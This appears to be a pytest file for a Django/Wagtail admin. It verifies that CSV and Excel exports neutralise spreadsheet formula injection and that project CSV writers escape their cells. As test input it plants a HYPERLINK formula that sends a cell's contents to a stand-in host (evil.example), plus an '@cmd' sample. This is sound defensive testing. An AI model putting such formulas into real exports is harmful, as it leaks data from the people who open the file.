"""No export opens as a formula in a spreadsheet, for any text typed in the admin and any export."""

import csv
import io
import re
from collections.abc import Iterator

import pytest
from django.conf import settings
from django.test import Client
from openpyxl import load_workbook

from config.settings.base import ROOT
from core.admin.spreadsheets import safe_rows
from tests.factories.core import StandardPageFactory
from tests.factories.helpline import ProgrammeFactory
from tests.factories.network import MemberFactory
from users.models import User

pytestmark = pytest.mark.django_db
FORMULA = '=HYPERLINK("https://evil.example/"&A1,"Open, please")'
# Wagtail's reports and lists that export, and the project's.
# The site history names everything that was ever published.
EXPORTS = (
    "/admin/reports/site-history/", "/admin/reports/aging-pages/", "/admin/reports/public-pages/",
    "/admin/pages/explorer/",
    "/admin/snippets/helpline/programme/", "/admin/redirects/",
)  # fmt: skip


@pytest.fixture
def administrator(home) -> Client:
    """Return an administrator who has typed formulas into all names."""
    user = User.objects.create_superuser("admin@example.org", first_name=FORMULA)
    page = StandardPageFactory(parent=home, title=FORMULA, slug="formula")
    page.save_revision(user=user, log_action=True).publish(user=user)
    ProgrammeFactory(name=FORMULA)
    MemberFactory(name=FORMULA)
    client = Client(headers={"host": settings.PRIVATE_HOST})
    client.force_login(user)
    return client


def addresses(client: Client) -> Iterator[str]:
    """Return every list and report of the menu that offers a CSV file, from any app or library."""
    found = set(re.findall(r"/admin/[a-z/_-]*", client.get("/admin/").text))
    for address in sorted({*found, *EXPORTS}):
        page = client.get(address, follow=True)
        if b"export=csv" in page.content:
            yield page.request["PATH_INFO"]


# wagtail-localize's report of translations has no order.
@pytest.mark.filterwarnings("ignore:Pagination may yield inconsistent results")
class TestExport:
    def test_has_no_cell_that_opens_as_a_formula(self, administrator):
        seen = 0
        exported = set(addresses(administrator))
        for address in exported:
            body = b"".join(administrator.get(address, {"export": "csv"})).decode()
            for row in csv.reader(io.StringIO(body, newline="")):
                for cell in row:
                    assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), (address, cell)
                    seen += cell == f"'{FORMULA}"
        assert len(exported) >= 4, exported
        assert seen >= 3

    def test_has_none_in_a_workbook_either(self, administrator):
        offered = [one for one in EXPORTS if "export=xlsx" in administrator.get(one, follow=True).text]
        assert len(offered) >= 3
        for address in offered:
            book = load_workbook(io.BytesIO(b"".join(administrator.get(address, {"export": "xlsx"}))), read_only=True)
            for row in book.active.iter_rows():
                assert all(cell.data_type != "f" for cell in row), address


class TestEveryTable:
    def test_has_safe_cells_or_passes_the_middleware(self):
        """Code that writes CSV files makes cells safe, or sends row by row, as the middleware requires."""
        unsafe = []
        for top in ("campaigns", "helpline", "network", "site"):
            for file in (ROOT / top).rglob("*.py"):
                code = file.read_text()
                if "csv.writer(" in code and not ("csv_cell(" in code or "csv.writer(Echo())" in code):
                    unsafe.append(str(file.relative_to(ROOT)))

        assert unsafe == []


class TestRows:
    def test_are_the_same_apart_from_formulas(self):
        chunks = [
            b'Title,"Text\nin two lines"\r\n',
            '"=1+1","é, \u202fß"\r\n'.encode(),
            b'"a ""quoted"" one",7\r\n',
        ]

        assert "".join(safe_rows(chunks)) == (
            'Title,"Text\nin two lines"\r\n' + "'=1+1" + ',"é, \u202fß"\r\n' + '"a ""quoted"" one",7\r\n'
        )

    def test_may_come_in_any_pieces(self):
        whole = 'Name,"é\n=x"\r\n@cmd,-1\r\n'.encode()

        assert list(safe_rows(bytes([byte]) for byte in whole)) == list(safe_rows([whole]))
